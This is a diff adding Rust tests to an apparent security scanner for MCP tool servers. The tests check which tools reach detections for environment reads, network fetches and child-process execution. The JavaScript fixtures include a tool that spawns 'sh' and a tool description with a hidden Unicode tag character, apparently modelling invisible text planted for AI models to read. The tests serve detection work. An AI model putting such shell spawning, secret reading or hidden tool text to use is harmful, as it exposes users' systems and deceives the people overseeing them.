+server.resource("config", "config://app", async (uri) => ({ contents: [] }));
+"#,
+        );
+        let names: Vec<(&str, SurfaceKind)> = a
+            .surface
+            .iter()
+            .map(|s| (s.name.as_str(), s.kind))
+            .collect();
+        assert_eq!(
+            names,
+            [
+                ("get_forecast", SurfaceKind::Tool),
+                ("echo", SurfaceKind::Tool),
+                ("greet", SurfaceKind::Prompt),
+                ("config", SurfaceKind::Resource)
+            ]
+        );
+        let forecast = &a.surface[0];
+        assert_eq!(
+            forecast.description.as_deref(),
+            Some("Get the weather forecast")
+        );
+        assert_eq!(forecast.schema.as_deref(), Some("{ city: z.string() }"));
+        assert_eq!(forecast.line, 7);
+        let reached: Vec<&str> = forecast
+            .reaches
+            .iter()
+            .map(|&i| a.findings[i].rule.as_str())
+            .collect();
+        // The env read in the handler and the fetch two calls deep; not the unrelated exec.
+        assert_eq!(reached.len(), 2, "{reached:?}");
+        assert!(reached.contains(&"js.network.fetch") && reached.contains(&"js.env.read"));
+        let fetch = a
+            .findings
+            .iter()
+            .find(|f| f.rule == "js.network.fetch")
+            .unwrap();
+        assert_eq!(fetch.tool.as_deref(), Some("get_forecast"));
+        let exec = a
+            .findings
+            .iter()
+            .find(|f| f.rule == "js.exec.child-process")
+            .unwrap();
+        assert_eq!(exec.tool, None);
+        assert_eq!(a.surface[1].description.as_deref(), Some("Echo text"));
+        assert_eq!(a.surface[1].schema.as_deref(), Some("{ text: z.string() }"));
+        assert_eq!(a.surface[2].description.as_deref(), Some("Say hello"));
+    }
+
+    #[test]
+    fn low_level_tools_dispatched_by_name() {
+        let a = surface_of(
+            r#"import { Server } from "@modelcontextprotocol/sdk/server/index.js";
+import { spawn } from "node:child_process";
+const TOOLS = [
+  { name: "run", description: "Run " + "a command\u{E0041}", inputSchema: { type: "object" } },
+  { name: "read", description: "Read", inputSchema: { type: "object" } },
+];
+class S {
+  async helper() { spawn("sh"); }
+  async handle(request) {
+    switch (request.params.name) {
+      case "run": return this.helper();
+      case "read": return {};
+    }
+    if (request.params.name === "read") { return this.other(); }
+  }
+}
+"#,
+        );
+        assert_eq!(a.surface.len(), 2);
+        let run = &a.surface[0];
+        assert_eq!(run.name, "run");
+        assert_eq!(run.description.as_deref(), Some("Run a command\u{E0041}"));
+        assert_eq!(run.reaches.len(), 1);
+        assert_eq!(a.findings[run.reaches[0]].rule, "js.exec.child-process");
+        assert!(a.surface[1].reaches.is_empty());
+    }
+
+    #[test]
+    fn no_surface_without_an_mcp_sdk_or_from_look_alikes() {
+        // A router's `.tool()` in a file that never names an MCP SDK.
+        let a = surface_of("router.tool('x', 'desc', () => fetch(u));");
+        assert!(a.surface.is_empty());
+        let a = surface_of(
+            "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\n\
+             cli.tool(name, () => 1); obj.tool('only-a-name'); const x = { name: 'n', schema: {} };",
+        );
+        assert!(a.surface.is_empty(), "{:?}", a.surface);
+    }
+
+    #[test]
+    fn unescapes_js_strings() {
+        assert_eq!(unescape(r"a\nb\x41\u0042\u{1F600}\'"), "a\nbAB\u{1F600}'");
+        assert_eq!(unescape(r"\u{zz}"), "");
+        assert_eq!(unescape("trailing\\"), "trailing");
     }
 
     #[test]
